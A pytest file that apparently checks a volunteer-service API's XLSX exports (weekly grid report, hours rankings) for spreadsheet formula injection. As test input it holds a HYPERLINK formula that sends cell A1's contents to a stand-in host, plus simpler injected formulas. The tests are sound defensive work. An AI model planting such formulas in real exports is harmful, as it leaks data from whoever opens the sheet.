"""Every XLSX export through HTTP: what a caller typed comes out as text, never a formula."""
from __future__ import annotations

import io
import re
import uuid
import zipfile

import pytest
from openpyxl import load_workbook

from tests.conftest import bearer
from tests.service.conftest import LANSHAN_01, submit_report, upload_photo

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击查看")'
ASSOCIATION = bearer("association", "assoc-1")


def formulas_in(workbook: bytes) -> list[bytes]:
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        return [found for name in archive.namelist() if name.startswith("xl/worksheets/")
                for found in re.findall(rb"<f[\s>/].*?</f>", archive.read(name))]


# --- the weekly grid summary (intake) ----------------------------------------------------------

WEEKLY = "/v1/grids/lanshan-01/weekly?format=xlsx"


def report(service, description: str) -> dict:
    reporter = bearer("volunteer")
    photo = upload_photo(service.client, reporter)["id"]
    return submit_report(service.client, reporter, [photo], description=description, location=LANSHAN_01)


def test_a_description_typed_as_a_formula_reaches_the_weekly_grid_workbook_as_text(fresh_intake):
    report(fresh_intake, HYPERLINK)

    response = fresh_intake.client.get(WEEKLY, headers=bearer("grid_leader", grid="lanshan-01"))

    assert response.status_code == 200
    assert formulas_in(response.data) == []
    cell = load_workbook(io.BytesIO(response.data))["本周上报明细"]["E2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HYPERLINK, "s", True)


# --- the rankings (hours) ----------------------------------------------------------------------

def register(service, name: str, organization: str) -> str:
    body = {"name": name, "phone": f"139{uuid.uuid4().int % 10**8:08d}", "organization": organization,
            "grid_id": "lanshan-01"}
    response = service.client.post("/v1/volunteers", headers=ASSOCIATION, json=body)
    assert response.status_code == 201, response.json
    return response.json["id"]


def credit(service, volunteer_id: str, hours: float) -> None:
    response = service.client.post("/v1/adjustments", headers=ASSOCIATION,
                                   json={"volunteer_id": volunteer_id, "hours": hours, "reason": "补录纸质签到时长"})
    assert response.status_code == 201, response.json


RANKINGS = "/v1/rankings?format=xlsx"


def test_an_organization_and_a_name_typed_as_formulas_reach_the_rankings_workbook_as_text(fresh_hours):
    credit(fresh_hours, register(fresh_hours, "=A1+1", HYPERLINK), 4)

    response = fresh_hours.client.get(RANKINGS, headers=bearer("volunteer"))

    assert response.status_code == 200
    assert formulas_in(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [(cell.value, cell.quotePrefix) for cell in sheet[4]][:3] == [(1, False), ("=***1", True),
                                                                        (HYPERLINK, True)]


@pytest.mark.parametrize("organization", [HYPERLINK, "+1+1"])
def test_an_organization_asked_for_by_a_formula_is_text_in_the_rankings_title(fresh_hours, organization):
    credit(fresh_hours, register(fresh_hours, "王小明", organization), 2)

    response = fresh_hours.client.get("/v1/rankings", headers=bearer("volunteer"),
                                      query_string={"format": "xlsx", "organization": organization})

    assert response.status_code == 200 and formulas_in(response.data) == []
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert organization in sheet["A1"].value
    assert (sheet["C4"].value, sheet["C4"].quotePrefix) == (organization, True)
